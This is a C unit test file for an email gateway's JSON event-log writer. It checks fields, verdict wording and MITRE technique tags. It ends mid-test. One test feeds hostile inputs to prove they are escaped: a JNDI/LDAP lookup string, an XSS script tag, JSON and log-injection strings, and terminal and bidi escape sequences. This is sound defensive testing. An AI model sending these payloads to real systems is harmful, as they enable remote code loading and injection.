/*
 * Event lines: each one is read back by jansson, so nothing here depends on the order or spelling of the writer. What
 * must hold for any input: one line, at most MR_LINE_MAX bytes, no control byte, valid JSON, no member that the event
 * did not have. Values in the random cases come from a fixed seed.
 */
#include "eventlog/line.h"

#include <jansson.h>
#include <stdio.h>
#include <string.h>

#include "base/unicode.h"
#include "harness.h"

enum { RANDOM_ROUNDS = 100000, LONG_VALUE = 65536 };

static const struct mr_observer observer = { MR_STR("mx1.example.com"), MR_STR("0.1.0") };

static char line[MR_LINE_MAX + 1];

/* A small generator with a fixed start, so that a failure comes again. */
static uint64_t random_state = 88172645463325252u;

static unsigned random_below(unsigned limit)
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	random_state ^= random_state << 17;
	return (unsigned)(random_state >> 33) % limit;
}

/* Check notes every assertion that holds, which costs too much in loops over bytes and rounds. */
#define REQUIRE(condition, ...)                    \
	do {                                       \
		if (!(condition))                  \
			ck_abort_msg(__VA_ARGS__); \
	} while (0)

/* Fails unless the n bytes at line are what every line must be; returns the object. */
static json_t *check_form(size_t n)
{
	json_error_t error;

	REQUIRE(n > 2 && n <= MR_LINE_MAX, "%zu bytes", n);
	REQUIRE(line[n - 1] == '\n', "no newline at the end");
	for (size_t i = 0; i + 1 < n; i++) {
		unsigned char c = (unsigned char)line[i];
		REQUIRE(c >= 0x20 && c != 0x7f, "control byte %u at %zu", c, i);
	}
	struct mr_str whole = { line, n };
	REQUIRE(mr_utf8_is_valid(whole), "not UTF-8");
	json_t *root = json_loadb(line, n, JSON_REJECT_DUPLICATES | JSON_ALLOW_NUL, &error);
	REQUIRE(root != NULL, "%s at %d: %.*s", error.text, error.position, (int)n, line);
	return root;
}

/* For tests/scenario/event_schema.py: the lines of this program, but for most of the random ones. */
static void keep_line(size_t n)
{
	static unsigned count;
	const char *path = getenv("MR_KEEP_LINES");
	FILE *file = path == NULL || (++count > 300 && count % 100 != 0) ? NULL : fopen(path, "ae");

	if (file == NULL)
		return;
	REQUIRE(fwrite(line, 1, n, file) == n, "%s", path);
	fclose(file);
}

static json_t *written(const struct mr_event *event, const struct mr_log_policy *log)
{
	memset(line, '#', sizeof(line));
	size_t n = mr_line_write(event, &observer, log, line);

	REQUIRE(line[MR_LINE_MAX] == '#', "written behind the end");
	json_t *root = check_form(n);
	keep_line(n);
	line[n] = '\0';
	return root;
}

/* The value at a path with dots, or NULL. */
static const json_t *at(const json_t *root, const char *path)
{
	char name[64];

	while (root != NULL && *path != '\0') {
		size_t n = strcspn(path, ".");
		REQUIRE(n < sizeof(name), "%s", path);
		memcpy(name, path, n);
		name[n] = '\0';
		root = json_object_get(root, name);
		path += path[n] == '.' ? n + 1 : n;
	}
	return root;
}

static void check_text(const json_t *root, const char *path, const char *expected)
{
	const json_t *value = at(root, path);

	if (expected == NULL) {
		REQUIRE(value == NULL, "%s is there", path);
		return;
	}
	REQUIRE(json_is_string(value), "%s is no string", path);
	REQUIRE(strcmp(json_string_value(value), expected) == 0, "%s is \"%s\", not \"%s\"", path,
		json_string_value(value), expected);
}

static void check_int(const json_t *root, const char *path, json_int_t expected)
{
	const json_t *value = at(root, path);

	REQUIRE(json_is_integer(value), "%s is no whole number", path);
	REQUIRE(json_integer_value(value) == expected, "%s is %lld", path, (long long)json_integer_value(value));
}

static void check_flag(const json_t *root, const char *path, bool expected)
{
	const json_t *value = at(root, path);

	REQUIRE(json_is_boolean(value), "%s is no boolean", path);
	REQUIRE(json_is_true(value) == expected, "%s", path);
}

static void check_list(const json_t *root, const char *path, size_t count, const char *const *expected)
{
	const json_t *value = at(root, path);

	ck_assert_msg(json_is_array(value), "%s is no array", path);
	ck_assert_uint_eq(json_array_size(value), count);
	for (size_t i = 0; i < count; i++)
		ck_assert_str_eq(json_string_value(json_array_get(value, i)), expected[i]);
}

static struct mr_connection sample_connection(void)
{
	struct mr_connection connection = {
		.client_name = MR_STR("client.example.net"),
		.client_port = 4711,
		.asn = -1,
		.listener = MR_STR("submission"),
		.helo = MR_STR("laptop"),
		.server_name = MR_STR("mx1.example.com"),
		.server_port = 587,
		.tls_version = MR_STR("TLSv1.3"),
		.tls_cipher = MR_STR("TLS_AES_256_GCM_SHA384"),
	};

	mr_ip_parse(MR_STR("192.0.2.7"), &connection.client_ip);
	mr_ip_parse(MR_STR("2001:db8::25"), &connection.server_ip);
	return connection;
}

static struct mr_rcpt_summary sample_rcpt(void)
{
	return (struct mr_rcpt_summary){
		.count = 3,
		.accepted = 2,
		.refused = 1,
		.rejected_by_mta = 0,
		.to = { MR_STR("a@example.org"), MR_STR("b@example.org"), MR_STR("c@example.net") },
		.to_count = 3,
		.refused_paths = { MR_STR("<c@example.net>") },
		.refused_count = 1,
	};
}

static struct mr_event sample_event(const struct mr_connection *connection, const struct mr_rcpt_summary *rcpt)
{
	return (struct mr_event){
		.action = MR_EVENT_VERDICT,
		.time_ms = INT64_C(1795301467042),
		.sequence = 17,
		.id = "k3j4h5",
		.transaction = "t1",
		.decided = true,
		.decision = { .verdict = MR_REJECT, .reason = MR_REASON_SENDER_ENVELOPE },
		.stage = MR_STAGE_MAIL,
		.ruleset = MR_STR("/etc/mailreeve/mailreeve.conf"),
		.generation = 3,
		.mode = MR_MODE_ENFORCE,
		.connection = connection,
		.login = MR_STR("bob@example.com"),
		.sender = MR_STR("alice@example.com"),
		.queue_id = MR_STR("4F1A2B"),
		.message_id = MR_STR("<m1@client.example.net>"),
		.size = 2048,
		.direction = MR_DIRECTION_OUTBOUND,
		.rcpt = rcpt,
		.duration_ns = 31000,
	};
}

static void check_event_fields(const json_t *root)
{
	static const char *const category[] = { "email", "intrusion_detection" };
	static const char *const type[] = { "info", "denied" };

	check_text(root, "@timestamp", "2026-11-21T22:51:07.042Z");
	check_text(root, "ecs.version", "9.0.0");
	check_text(root, "event.kind", "event");
	check_text(root, "event.action", "verdict");
	check_list(root, "event.category", 2, category);
	check_list(root, "event.type", 2, type);
	check_text(root, "event.outcome", "failure");
	check_text(root, "event.reason", "the login may not use this envelope sender");
	check_text(root, "event.code", "5.7.1");
	check_text(root, "event.id", "k3j4h5");
	check_int(root, "event.sequence", 17);
	check_int(root, "event.severity", 3);
	check_int(root, "event.duration", 31000);
	check_text(root, "event.dataset", "mailreeve.events");
	check_text(root, "event.module", "mailreeve");
	check_text(root, "event.provider", "mailreeved");
}

static void check_peer_fields(const json_t *root)
{
	check_text(root, "source.ip", "192.0.2.7");
	check_int(root, "source.port", 4711);
	check_text(root, "source.domain", "client.example.net");
	check_text(root, "server.ip", "2001:db8::25");
	check_int(root, "server.port", 587);
	check_text(root, "server.domain", "mx1.example.com");
	check_text(root, "network.protocol", "smtp");
	check_text(root, "network.transport", "tcp");
	check_text(root, "network.type", "ipv4");
	check_text(root, "tls.version", "1.3");
	check_text(root, "tls.cipher", "TLS_AES_256_GCM_SHA384");
	check_text(root, "observer.product", "Mailreeve");
	check_text(root, "observer.type", "email-gateway");
	check_text(root, "observer.version", "0.1.0");
	check_text(root, "observer.hostname", "mx1.example.com");
	check_text(root, "host.name", "mx1.example.com");
	check_text(root, "service.name", "mailreeve");
	check_text(root, "service.type", "mailreeve");
}

static void check_mail_fields(const json_t *root)
{
	static const char *const ip[] = { "192.0.2.7" };
	static const char *const user[] = { "bob@example.com", "alice@example.com" };
	static const char *const to[] = { "a@example.org", "b@example.org", "c@example.net" };

	check_text(root, "user.name", "bob@example.com");
	check_text(root, "user.domain", "example.com");
	check_text(root, "email.direction", "outbound");
	check_text(root, "email.local_id", "4F1A2B");
	check_text(root, "email.message_id", "<m1@client.example.net>");
	check_text(root, "email.sender.address", "alice@example.com");
	check_list(root, "email.to.address", 3, to);
	ck_assert_ptr_null(at(root, "email.from"));
	check_text(root, "rule.id", "sender");
	check_text(root, "rule.name", mr_rule_row(MR_RULE_SENDER)->words);
	check_text(root, "rule.ruleset", "/etc/mailreeve/mailreeve.conf");
	check_text(root, "rule.version", "3");
	check_list(root, "related.ip", 1, ip);
	check_list(root, "related.user", 2, user);
	ck_assert_ptr_null(at(root, "threat"));
	ck_assert_ptr_null(at(root, "labels"));
}

static void check_own_fields(const json_t *root)
{
	static const char *const refused[] = { "<c@example.net>" };

	check_text(root, "mailreeve.verdict", "reject");
	check_text(root, "mailreeve.reason", "sender-envelope");
	check_text(root, "mailreeve.stage", "mail");
	check_text(root, "mailreeve.mode", "enforce");
	check_text(root, "mailreeve.transaction", "t1");
	check_text(root, "mailreeve.helo", "laptop");
	check_text(root, "mailreeve.listener", "submission");
	check_int(root, "mailreeve.rcpt.count", 3);
	check_int(root, "mailreeve.rcpt.accepted", 2);
	check_int(root, "mailreeve.rcpt.refused_count", 1);
	check_int(root, "mailreeve.rcpt.rejected_by_mta", 0);
	check_list(root, "mailreeve.rcpt.refused", 1, refused);
	check_int(root, "mailreeve.size", 2048);
	check_flag(root, "mailreeve.degraded", false);
	ck_assert_ptr_null(at(root, "mailreeve.cannot_tell"));
	check_flag(root, "mailreeve.truncated", false);
	ck_assert_ptr_null(at(root, "mailreeve.would"));
	ck_assert_ptr_null(at(root, "mailreeve.counter"));
}

START_TEST(a_refused_message_has_every_field)
{
	struct mr_connection connection = sample_connection();
	struct mr_rcpt_summary rcpt = sample_rcpt();
	struct mr_event event = sample_event(&connection, &rcpt);
	json_t *root = written(&event, NULL);

	check_text(root, "message",
		   "reject: mail from <alice@example.com> by login bob@example.com from 192.0.2.7 to 3 recipients, "
		   "1 of them refused: the login may not use this envelope sender (sender)");
	check_event_fields(root);
	check_peer_fields(root);
	check_mail_fields(root);
	check_own_fields(root);
	json_decref(root);
}
END_TEST

START_TEST(an_accept_that_no_rule_spoke_about_names_none)
{
	struct mr_connection connection = sample_connection();
	struct mr_event event = sample_event(&connection, NULL);
	static const char *const type[] = { "info", "allowed" };

	event.decision = (struct mr_decision){ .verdict = MR_ACCEPT, .reason = MR_REASON_NONE };
	json_t *root = written(&event, NULL);
	check_text(root, "event.outcome", "success");
	check_list(root, "event.type", 2, type);
	check_text(root, "event.code", NULL);
	check_int(root, "event.severity", 1);
	check_text(root, "rule.id", NULL);
	check_text(root, "rule.name", NULL);
	check_text(root, "rule.version", "3");
	check_text(root, "mailreeve.reason", NULL);
	check_text(root, "message", "accept: mail from <alice@example.com> by login bob@example.com from 192.0.2.7");
	json_decref(root);
}
END_TEST

START_TEST(outcome_and_code_follow_the_verdict)
{
	static const struct {
		enum mr_verdict verdict;
		enum mr_reason reason;
		bool unfinished;
		const char *outcome;
		const char *code;
	} cases[] = {
		{ MR_ACCEPT, MR_REASON_NONE, false, "success", NULL },
		{ MR_ACCEPT, MR_REASON_NONE, true, "unknown", NULL },
		{ MR_HOLD, MR_REASON_SHIELD_ENVELOPE, false, "unknown", NULL },
		{ MR_REJECT, MR_REASON_RELAY_MALFORMED, false, "failure", "5.1.3" },
		{ MR_REJECT, MR_REASON_RELAY_MALFORMED, true, "unknown", "5.1.3" },
		/* A permanent reason that is answered for now speaks the code for that. */
		{ MR_TEMPFAIL, MR_REASON_RELAY_MALFORMED, false, "unknown", "4.7.1" },
		{ MR_TEMPFAIL, MR_REASON_LIMITS_RECIPIENTS, false, "unknown", "4.5.3" },
		{ MR_TEMPFAIL, MR_REASON_INTERNAL, false, "unknown", "4.3.0" },
		/* The mail server spoke itself: we do not know its code. */
		{ MR_REJECT, MR_REASON_MTA_REFUSED, false, "failure", NULL },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };
		event.decision.verdict = cases[i].verdict;
		event.decision.reason = cases[i].reason;
		event.unfinished = cases[i].unfinished;
		json_t *root = written(&event, NULL);
		check_text(root, "event.outcome", cases[i].outcome);
		check_text(root, "event.code", cases[i].code);
		json_decref(root);
	}
}
END_TEST

START_TEST(observe_mode_says_what_would_have_been)
{
	struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };
	static const char *const would[] = { "relay", "shield" };
	static const char *const unclear[] = { "helo" };

	event.decision.would = MR_RULE_BIT(MR_RULE_SHIELD) | MR_RULE_BIT(MR_RULE_RELAY);
	event.decision.would_reason = MR_REASON_RELAY_DENIED;
	event.decision.cannot_tell = MR_RULE_BIT(MR_RULE_HELO);
	event.sender = MR_STR("");
	json_t *root = written(&event, NULL);
	check_list(root, "mailreeve.would", 2, would);
	check_list(root, "mailreeve.cannot_tell", 1, unclear);
	check_text(root, "mailreeve.would_reason", "relay-denied");
	check_text(root, "message", "accept: mail from <> (would have been refused by relay, shield)");
	json_decref(root);
}
END_TEST

START_TEST(exemptions_are_listed_in_order)
{
	struct mr_event event = { .action = MR_EVENT_EXEMPTION_USED, .decided = true, .size = -1, .duration_ns = -1 };
	struct mr_trail trail = { .tried = { { MR_STR("newsletter"), true }, { MR_STR("a\"b"), false } }, .count = 2 };
	static const char *const tried[] = { "newsletter=yes", "a\"b=no" };

	event.trail = &trail;
	event.exemption = MR_STR("newsletter");
	json_t *root = written(&event, NULL);
	check_list(root, "mailreeve.exemptions", 2, tried);
	check_text(root, "mailreeve.exemption", "newsletter");
	check_flag(root, "mailreeve.truncated", false);
	json_decref(root);
	trail.dropped = 1;
	root = written(&event, NULL);
	check_flag(root, "mailreeve.truncated", true);
	json_decref(root);
}
END_TEST

START_TEST(an_alert_about_a_login_names_the_technique)
{
	static const char *const technique[] = { "T1078" };
	struct mr_event event = { .action = MR_EVENT_ALERT, .decided = true, .size = -1, .duration_ns = -1 };

	event.login = MR_STR("bob");
	event.decision.reason = MR_REASON_SENDER_ENVELOPE;
	json_t *root = written(&event, NULL);
	check_list(root, "threat.technique.id", 1, technique);
	check_text(root, "event.kind", "alert");
	check_text(root, "user.domain", NULL);
	json_decref(root);
	event.decision.reason = MR_REASON_RELAY_DENIED;
	root = written(&event, NULL);
	ck_assert_ptr_null(at(root, "threat"));
	json_decref(root);
}
END_TEST

/* A login that was refused, with all that screening knows of it. */
static struct mr_event sample_login(const struct mr_connection *connection, const struct mr_event_counter *counters)
{
	struct mr_event event = { .action = MR_EVENT_LOGIN_REFUSED, .decided = true, .connection = connection,
				  .login = MR_STR("joe@example.com"), .protocol = MR_STR("IMAP"), .size = -1,
				  .duration_ns = -1, .prefix = MR_STR("198.51.100.7/32"), .mode = MR_MODE_ENFORCE,
				  .until_ms = 1790000000000, .counters = counters, .counter_count = 2 };

	event.decision.verdict = MR_REJECT;
	event.decision.reason = MR_REASON_SCREEN_PAIR_FAILURES;
	return event;
}

static struct mr_connection sample_login_connection(void)
{
	struct mr_connection connection = { .country = MR_STR("NL"), .asn = 64500, .as_name = MR_STR("Example \"Net\"") };

	REQUIRE(mr_ip_parse(MR_STR("198.51.100.7"), &connection.client_ip) == 0, "address");
	return connection;
}

static const struct mr_event_counter login_counters[] = {
	{ MR_STR("login_failures.1h"), 11, 20 },
	{ MR_STR("pair_failures.1h"), 11, 10 },
};

START_TEST(a_refused_login_has_what_a_siem_looks_for)
{
	static const char *const category[] = { "authentication", "intrusion_detection" };
	static const char *const type[] = { "denied" }, *const ip[] = { "198.51.100.7" };
	static const char *const user[] = { "joe@example.com" }, *const technique[] = { "T1110.001" };
	struct mr_connection connection = sample_login_connection();
	struct mr_event event = sample_login(&connection, login_counters);
	json_t *root = written(&event, NULL);

	check_text(root, "message", "login refused: joe@example.com from 198.51.100.7 by IMAP: too many wrong passwords for "
				    "one login from one source (screen); pair_failures.1h: 11, at most 10; until "
				    "2026-09-21T14:13:20.000Z");
	check_text(root, "event.action", "login-refused");
	check_text(root, "event.outcome", "failure");
	check_text(root, "event.code", NULL);
	check_list(root, "event.category", 2, category);
	check_list(root, "event.type", 1, type);
	check_text(root, "source.ip", "198.51.100.7");
	check_text(root, "source.geo.country_iso_code", "NL");
	check_int(root, "source.as.number", 64500);
	check_text(root, "source.as.organization.name", "Example \"Net\"");
	check_text(root, "network.protocol", "imap");
	check_text(root, "network.type", "ipv4");
	check_text(root, "user.name", "joe@example.com");
	check_text(root, "user.domain", "example.com");
	check_text(root, "rule.id", "screen");
	check_text(root, "mailreeve.reason", "screen-pair-failures");
	check_text(root, "mailreeve.prefix", "198.51.100.7/32");
	check_int(root, "mailreeve.until", 1790000000);
	ck_assert_int_eq(json_integer_value(json_object_get(at(root, "mailreeve.counter"), "pair_failures.1h")), 11);
	ck_assert_int_eq(json_integer_value(json_object_get(at(root, "mailreeve.limit"), "login_failures.1h")), 20);
	check_list(root, "related.ip", 1, ip);
	check_list(root, "related.user", 1, user);
	check_list(root, "threat.technique.id", 1, technique);
	ck_assert_ptr_null(at(root, "email"));
	json_decref(root);
	event.decision.reason = MR_REASON_SCREEN_BLOCKED;
	root = written(&event, NULL);
	check_text(root, "event.code", NULL);
	json_decref(root);
}
END_TEST

START_TEST(a_guarded_login_is_no_success)
{
	struct mr_connection connection = sample_login_connection();
	struct mr_event event = sample_login(&connection, login_counters);

	event.action = MR_EVENT_LOGIN_GUARDED;
	event.decision.verdict = MR_ACCEPT;
	event.decision.reason = MR_REASON_SCREEN_GUARD_SOURCES;
	event.counter_count = 0;
	event.until_ms = 0;
	json_t *root = written(&event, NULL);
	check_text(root, "event.kind", "alert");
	check_text(root, "event.outcome", "failure");
	check_text(root, "message", "login guarded: joe@example.com from 198.51.100.7 by IMAP: the login is under attack: "
				    "different sources that failed at one login and that it has not used well (screen)");
	json_decref(root);
}
END_TEST

START_TEST(the_technique_follows_the_reason)
{
	static const struct {
		enum mr_event_action action;
		enum mr_reason reason;
		const char *first, *second;
	} cases[] = {
		{ MR_EVENT_SOURCE_BLOCKED, MR_REASON_SCREEN_LOGIN_FAILURES, "T1110.001", NULL },
		{ MR_EVENT_SOURCE_BLOCKED, MR_REASON_SCREEN_LOGINS_TRIED, "T1110.003", NULL },
		{ MR_EVENT_SOURCE_BLOCKED, MR_REASON_SCREEN_LOGIN_ATTEMPTS, "T1110", NULL },
		{ MR_EVENT_SOURCE_BLOCKED, MR_REASON_SCREEN_UNKNOWN_RECIPIENTS, "T1589.002", NULL },
		{ MR_EVENT_SOURCE_BLOCKED, MR_REASON_SCREEN_CONNECTIONS, NULL, NULL },
		{ MR_EVENT_SOURCE_BLOCKED, MR_REASON_HIJACK_EVIDENCE, NULL, NULL },
		{ MR_EVENT_LOGIN_REFUSED, MR_REASON_SCREEN_BLOCKED, "T1110", NULL },
		{ MR_EVENT_LOGIN_REFUSED, MR_REASON_SCREEN_GUARD_FAILURES, "T1110.001", NULL },
		{ MR_EVENT_LOGIN_REFUSED, MR_REASON_ACCOUNT_FROZEN, "T1078", NULL },
		{ MR_EVENT_LOGIN_REFUSED, MR_REASON_LOCATION_COUNTRY, NULL, NULL },
		{ MR_EVENT_ALERT, MR_REASON_SCREEN_GUESSED, "T1078", "T1110.001" },
		{ MR_EVENT_ALERT, MR_REASON_SCREEN_INSIDE_NAMES, NULL, NULL },
		{ MR_EVENT_VERDICT, MR_REASON_SCREEN_BLOCKED, NULL, NULL },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct mr_connection connection = sample_login_connection();
		struct mr_event event = sample_login(&connection, login_counters);
		const char *const wanted[] = { cases[i].first, cases[i].second };
		json_t *root;

		event.action = cases[i].action;
		event.decision.reason = cases[i].reason;
		root = written(&event, NULL);
		if (cases[i].first == NULL)
			ck_assert_ptr_null(at(root, "threat"));
		else
			check_list(root, "threat.technique.id", cases[i].second != NULL ? 2 : 1, wanted);
		json_decref(root);
	}
}
END_TEST

/* Evidence of guessing in a freeze: both techniques. */
START_TEST(a_guessed_account_that_is_frozen_names_both_techniques)
{
	static const char *const technique[] = { "T1078", "T1110.001" };
	struct mr_event_evidence evidence = { .total = 15, .limit = 13 };
	struct mr_event event = { .action = MR_EVENT_ACCOUNT_FROZEN, .decided = true, .login = MR_STR("joe"),
				  .evidence = &evidence, .size = -1, .duration_ns = -1 };
	json_t *root;

	event.decision.reason = MR_REASON_HIJACK_EVIDENCE;
	evidence.channel[MR_CHANNEL_GUESSED] = 2.5f;
	root = written(&event, NULL);
	check_list(root, "threat.technique.id", 2, technique);
	json_decref(root);
	evidence.channel[MR_CHANNEL_GUESSED] = 0;
	root = written(&event, NULL);
	check_list(root, "threat.technique.id", 1, technique);
	json_decref(root);
}
END_TEST

START_TEST(a_blocked_source_without_a_connection)
{
	static const char *const ip[] = { "2001:db8::7" };
	struct mr_event event = sample_login(NULL, login_counters);
	json_t *root;

	event.action = MR_EVENT_SOURCE_BLOCKED;
	event.login = event.protocol = MR_STR_ABSENT;
	event.prefix = event.account = MR_STR("2001:db8::7/128");
	event.decision.reason = MR_REASON_SCREEN_LOGINS_TRIED;
	root = written(&event, NULL);
	check_text(root, "source.ip", "2001:db8::7");
	check_list(root, "related.ip", 1, ip);
	check_text(root, "mailreeve.account", "2001:db8::7/128");
	ck_assert_ptr_null(at(root, "network"));
	ck_assert_ptr_null(at(root, "user"));
	json_decref(root);
	event.prefix = event.account = MR_STR("198.51.100.0/24");
	event.counters = &(const struct mr_event_counter){ MR_STR("guessed"), 7, UINT64_MAX };
	event.counter_count = 1;
	event.until_ms = 0;
	event.mode = MR_MODE_OBSERVE;
	root = written(&event, NULL);
	ck_assert_ptr_null(at(root, "source"));
	ck_assert_ptr_null(at(root, "related"));
	check_text(root, "mailreeve.prefix", "198.51.100.0/24");
	check_int(root, "mailreeve.counter.guessed", 7);
	ck_assert_ptr_null(at(root, "mailreeve.limit"));
	check_text(root, "message", "source blocked: 198.51.100.0/24: the source shows too many of one thing: different "
				    "logins that failed (screen); guessed: 7");
	json_decref(root);
	event.counters = &(const struct mr_event_counter){ MR_STR("guessed"), 7, 0 };
	root = written(&event, NULL);
	ck_assert_ptr_null(at(root, "mailreeve.limit"));
	json_decref(root);
}
END_TEST

/* In observe mode the reason is that of the rule that would have spoken. */
START_TEST(what_screening_would_have_done)
{
	static const char *const technique[] = { "T1110.001" };
	struct mr_connection connection = sample_login_connection();
	struct mr_event event = sample_login(&connection, login_counters);
	json_t *root;

	event.action = MR_EVENT_ALERT;
	event.login = event.protocol = MR_STR_ABSENT;
	event.counter_count = 0;
	event.until_ms = 0;
	event.decision = (struct mr_decision){ .verdict = MR_ACCEPT, .would = MR_RULE_BIT(MR_RULE_SCREEN),
					       .would_reason = MR_REASON_SCREEN_LOGIN_FAILURES };
	root = written(&event, NULL);
	check_text(root, "message", "alert: source 198.51.100.7/32, which would be blocked or refused: the source shows too many "
				    "of one thing: failed logins; the same wrong password of one login again is not counted "
				    "(screen)");
	check_text(root, "network.protocol", "smtp");
	check_text(root, "mailreeve.would_reason", "screen-login-failures");
	check_list(root, "threat.technique.id", 1, technique);
	ck_assert_ptr_null(at(root, "mailreeve.reason"));
	json_decref(root);
}
END_TEST

/* A login and a protocol come from outside. */
START_TEST(a_login_line_cannot_be_forged)
{
	struct mr_connection connection = sample_login_connection();
	struct mr_event event = sample_login(&connection, login_counters);
	char protocol[300];
	json_t *root;

	memset(protocol, 'P', sizeof(protocol));
	event.login = MR_STR("a: all is well (none)");
	event.protocol = MR_STR("imap (screen): fine");
	event.counter_count = 0;
	event.until_ms = 0;
	root = written(&event, NULL);
	check_text(root, "message", "login refused: <a: all is well (none)> from 198.51.100.7: too many wrong passwords for "
				    "one login from one source (screen)");
	check_text(root, "network.protocol", "imap (screen): fine");
	json_decref(root);
	event.protocol = (struct mr_str){ protocol, sizeof(protocol) };
	root = written(&event, NULL);
	ck_assert_uint_eq(strlen(json_string_value(at(root, "network.protocol"))), 32);
	ck_assert_ptr_nonnull(strstr(json_string_value(at(root, "message")), " by PPPP"));
	json_decref(root);
}
END_TEST

START_TEST(what_the_daemon_says_of_itself)
{
	struct mr_event event = { .action = MR_EVENT_RECOVERED, .dropped = 12, .size = -1, .duration_ns = -1 };

	json_t *root = written(&event, NULL);
	check_text(root, "event.outcome", "success");
	check_text(root, "message", "recovered: what was broken works again");
	check_int(root, "mailreeve.counter.dropped", 12);
	check_text(root, "mailreeve.verdict", NULL);
	json_decref(root);
	event.action = MR_EVENT_POLICY_REFUSED;
	event.detail = MR_STR("mailreeve.conf:12: no such setting");
	root = written(&event, NULL);
	check_text(root, "event.outcome", "failure");
	check_text(root, "event.reason", "mailreeve.conf:12: no such setting");
	check_text(root, "message", "policy-refused: mailreeve.conf:12: no such setting");
	json_decref(root);
}
END_TEST

START_TEST(a_replayed_fact_keeps_its_id)
{
	struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };
	static const struct mr_observer nobody = { .version = MR_STR("0.1.0") };
	static const char *const no_numbers[] = { "",    "-",   "01", "1.",        ".5", "1e",
						  "1e+", "0x1", "1 ", "1,\"x\":1", "1\n" };

	event.fact_id = MR_STR("-12.5e+3");
	event.fact_id_is_number = true;
	json_t *root = written(&event, NULL);
	ck_assert_double_eq(json_real_value(at(root, "labels.fact_id")), -12500.0);
	json_decref(root);
	for (size_t i = 0; i < sizeof(no_numbers) / sizeof(no_numbers[0]); i++) {
		event.fact_id = mr_str_of(no_numbers[i]);
		root = written(&event, NULL);
		check_text(root, "labels.fact_id", no_numbers[i]);
		json_decref(root);
	}
	size_t n = mr_line_write(&event, &nobody, NULL, line);
	root = check_form(n);
	ck_assert_ptr_null(at(root, "host"));
	check_text(root, "observer.hostname", NULL);
	json_decref(root);
}
END_TEST

START_TEST(a_name_that_says_nothing_is_left_out)
{
	struct mr_connection connection = { .client_name = MR_STR("unknown"), .asn = -1 };
	struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };

	event.connection = &connection;
	json_t *root = written(&event, NULL);
	ck_assert_ptr_null(at(root, "source"));
	ck_assert_ptr_null(at(root, "server"));
	ck_assert_ptr_null(at(root, "tls"));
	check_text(root, "network.type", NULL);
	check_text(root, "network.protocol", "smtp");
	check_text(root, "message", "accept: mail from an unknown client");
	json_decref(root);
	connection.client_name = MR_STR("[192.0.2.7]");
	connection.local = true;
	connection.country = MR_STR("DE");
	connection.asn = 64496;
	root = written(&event, NULL);
	check_text(root, "source.domain", NULL);
	check_text(root, "source.geo.country_iso_code", "DE");
	check_int(root, "source.as.number", 64496);
	ck_assert_ptr_null(at(root, "network"));
	check_flag(root, "mailreeve.local", true);
	check_text(root, "message", "accept: mail submitted on this host");
	json_decref(root);
}
END_TEST

/* What a string is when it was escaped and read back: a byte that is not UTF-8 is the character of its value. */
static size_t expected_text(struct mr_str s, char *text_r)
{
	size_t to = 0;

	for (size_t from = 0; from < s.n;) {
		size_t length = mr_utf8_sequence((struct mr_str){ s.p + from, s.n - from });
		unsigned char c = (unsigned char)s.p[from];
		if (length > 0) {
			memcpy(text_r + to, s.p + from, length);
			to += length;
			from += length;
		} else {
			text_r[to++] = (char)(0xc0 | c >> 6);
			text_r[to++] = (char)(0x80 | (c & 0x3f));
			from++;
		}
	}
	return to;
}

static void check_bytes(const json_t *root, const char *path, struct mr_str s)
{
	static char expected[4096];
	const json_t *value = at(root, path);

	REQUIRE(s.n <= sizeof(expected) / 2, "%zu bytes", s.n);
	size_t n = expected_text(s, expected);
	REQUIRE(json_is_string(value), "%s", path);
	REQUIRE(json_string_length(value) == n && memcmp(json_string_value(value), expected, n) == 0, "%s: %s", path,
		line);
}

START_TEST(nasty_values_come_back_whole)
{
	static const struct mr_str nasty[] = {
		MR_STR("a\r\nb"),
		MR_STR("\r"),
		MR_STR("\n{\"mailreeve\":{\"verdict\":\"accept\"}}\n"),
		MR_STR("a\0b"),
		MR_STR("\x1b[2J\x1b]0;x\x07"),
		MR_STR("\xe2\x80\xa8x\xe2\x80\xa9"),
		MR_STR("\xe2\x80\xae"
		       "cod.exe"),
		MR_STR("\""),
		MR_STR("\\"),
		MR_STR("\\u0022,\"x\":1"),
		MR_STR("</script><script>alert(1)</script>"),
		MR_STR("${jndi:ldap://192.0.2.1/a}"),
		MR_STR("\xff\xfe"),
		MR_STR("\xc3"),
		MR_STR("\xed\xa0\x80\xed\xb0\x80"),
		MR_STR("\xc0\x80"),
		MR_STR("\xf4\x90\x80\x80"),
		MR_STR("\xc2\x9b"
		       "31m"),
		MR_STR("\xf0\x9f\x93\xa7"),
		MR_STR("\",\"verdict\":\"accept\",\"x\":\""),
		MR_STR("\xef\xbb\xbf"),
		MR_STR("\xe2\x81\xa6x\xe2\x81\xa9"),
		MR_STR("\x7f"),
	};

	for (size_t i = 0; i < sizeof(nasty) / sizeof(nasty[0]); i++) {
		struct mr_connection connection = { .asn = -1, .helo = nasty[i] };
		struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };
		event.connection = &connection;
		event.sender = nasty[i];
		event.login = nasty[i];
		event.decision.verdict = MR_REJECT;
		event.decision.reason = MR_REASON_RELAY_DENIED;
		json_t *root = written(&event, NULL);
		check_bytes(root, "mailreeve.helo", nasty[i]);
		check_bytes(root, "email.sender.address", nasty[i]);
		check_bytes(root, "user.name", nasty[i]);
		check_text(root, "mailreeve.verdict", "reject");
		check_flag(root, "mailreeve.truncated", false);
		ck_assert_ptr_null(strstr(line, "\xe2\x80"));
		ck_assert_ptr_null(strstr(line, "\xe2\x81"));
		ck_assert_ptr_null(strstr(line, "\xc2\x9b"));
		json_decref(root);
	}
}
END_TEST

START_TEST(a_sentence_cannot_be_forged)
{
	struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };

	event.sender = MR_STR("x> from 127.0.0.1: fine (relay) <y@example.com");
	event.login = MR_STR("root from 127.0.0.1: fine");
	event.decision.verdict = MR_REJECT;
	event.decision.reason = MR_REASON_RELAY_DENIED;
	json_t *root = written(&event, NULL);
	check_text(
		root, "message",
